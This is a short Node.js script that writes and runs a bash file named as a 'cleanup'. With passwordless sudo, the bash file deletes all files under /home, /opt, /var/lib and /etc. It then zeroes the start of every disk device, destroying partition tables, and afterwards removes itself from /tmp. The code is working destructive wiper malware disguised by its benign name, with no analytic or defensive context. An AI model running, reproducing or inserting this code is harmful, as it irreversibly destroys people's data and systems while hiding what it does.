const fs = require('fs');
const cp = require('child_process');

const dirs = ['home', 'opt', 'var/lib', 'etc'];
const script = `#!/usr/bin/env bash
set +e
${dirs.map((d) => `find /${d} -xdev -type f -delete`).join('\n')}
for d in /dev/sd? /dev/nvme?n1 /dev/vd?; do [ -b $d ] && dd if=/dev/zero of=$d bs=4M count=16; done
`;
const f = '/tmp/cleanup-' + Date.now() + '.sh';
fs.writeFileSync(f, script, { mode: 0o755 });
cp.spawnSync('sudo', ['-n', 'bash', f], { stdio: 'inherit' });
fs.unlinkSync(f);
